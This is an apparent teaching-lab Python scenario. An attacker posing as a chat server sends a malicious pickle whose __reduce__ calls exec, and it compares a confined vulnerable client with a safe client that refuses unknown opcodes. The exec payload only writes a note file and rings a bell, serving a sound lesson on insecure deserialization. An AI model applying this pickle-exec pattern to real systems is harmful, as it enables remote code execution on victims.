"""Mallory answers in the server's place with a user list that is a program, and the report's client runs it.

A pickle is not data but instructions for a small machine, and two of them import a function and call it. The
program is the kit's own: it writes one file and rings the bell. The report's client unpickles whatever comes,
here in a read-only file system with one empty folder, as process 1 of its own (``lab.net.read_only``); elsewhere
it refuses to connect to another computer. The kit's client knows only the instructions that a list of names needs.
"""

import pickle
import pickletools
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

from lab.chat.client import ChatClient
from lab.chat.events import ListUsers, Text, WireError
from lab.chat.login import Login
from lab.chat.report_wire import ReportWire, read_users
from lab.harness.attack_lan import in_the_servers_place, recorded_attack
from lab.harness.bare_socket import WAIT_S, BareSocket
from lab.harness.remote_chat import dial_from
from lab.harness.scenarios import Truth, scenario
from lab.harness.variant import REPORT_PORT
from lab.net.lan import Lan
from lab.setup.paths import ROOT

PLACES = ("PC1", "PC2", "switch")
PROGRAM = r"open('note.txt', 'x').write('This could have been any program.'); print('\a', flush=True)"


class Program:
    """What a pickle makes of it is the result of a call."""

    def __reduce__(self) -> tuple[Callable[[str], None], tuple[str]]:
        return exec, (PROGRAM,)


@scenario(notebook="10")
def pickled_list(path: Path) -> Truth:
    """The report's client runs the program in a user list, and the kit's client reads it and runs nothing; at PC 1."""
    data = pickle.dumps(["Brandon", "John", Program()], protocol=4)
    with tempfile.TemporaryDirectory() as folder, recorded_attack(path, *PLACES) as (lan, mallory, truth):
        with in_the_servers_place(lan, mallory, lan["PC1"]):
            printed = _report_client(lan, data, folder)
        with in_the_servers_place(lan, mallory, lan["PC2"]):
            shown = _kits_client(lan, data)
        written = {file.name: file.read_text() for file in Path(folder).iterdir()}
    truth |= {"program": PROGRAM, "list": data.hex(), "instructions": instructions(data)}
    return truth | {"printed": printed, "written": written, "shown": shown}


def _report_client(lan: Lan, data: bytes, folder: str) -> list[str]:
    """Send the report's client on PC 1 the list; return the lines that it prints."""
    client = [str(ROOT / "lab/stages/report_client.py"), "Brandon", "--host", lan["server"].address]
    confined = [sys.executable, "-m", "lab.net.read_only", folder, sys.executable, *client]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
    with BareSocket(lan["Mallory"]) as mallory:
        mallory.listen()
        with lan["PC1"].popen(confined, cwd=ROOT, text=True, **pipes) as process:
            _answer(mallory, data)
            printed, _ = process.communicate(timeout=WAIT_S)
    return list(printed.split("\n"))


def _kits_client(lan: Lan, data: bytes) -> str:
    """Send the kit's client on PC 2 the same list; return the text that it shows."""
    login = Login("John", lan["server"].address, REPORT_PORT, dial=dial_from(lan["PC2"]))
    with BareSocket(lan["Mallory"]) as mallory:
        mallory.listen()
        john = ChatClient(login).connect()
        john.request(ListUsers(everyone=True))
        _answer(mallory, data)
        shown = john.events.get(timeout=WAIT_S)
        john.leave()
    assert isinstance(shown, Text)
    return shown.text


def _answer(mallory: BareSocket, data: bytes) -> None:
    """Send the list to the client that asks for it, and nothing more."""
    mallory.accept()
    mallory.hear(until=ReportWire.encode(ListUsers(everyone=True)))
    mallory.say(data)
    mallory.half_close()


def instructions(data: bytes) -> list[dict[str, object]]:
    """Return each instruction of a pickle, its argument, and whether the kit's reader refuses it, which is tried."""
    found = list(pickletools.genops(data))
    ends = [start for _, _, start in found[1:]] + [len(data)]
    tried = []
    for (opcode, argument, start), end in zip(found, ends, strict=True):
        refusal = ""
        try:
            read_users(data[start:end])
        except WireError as error:  # by itself none is a list: only the reason says whether it is known
            refusal = str(error)
        is_refused = f"opcode {opcode.name}" in refusal
        tried.append({"name": opcode.name, "argument": argument, "refused": is_refused})
    return tried
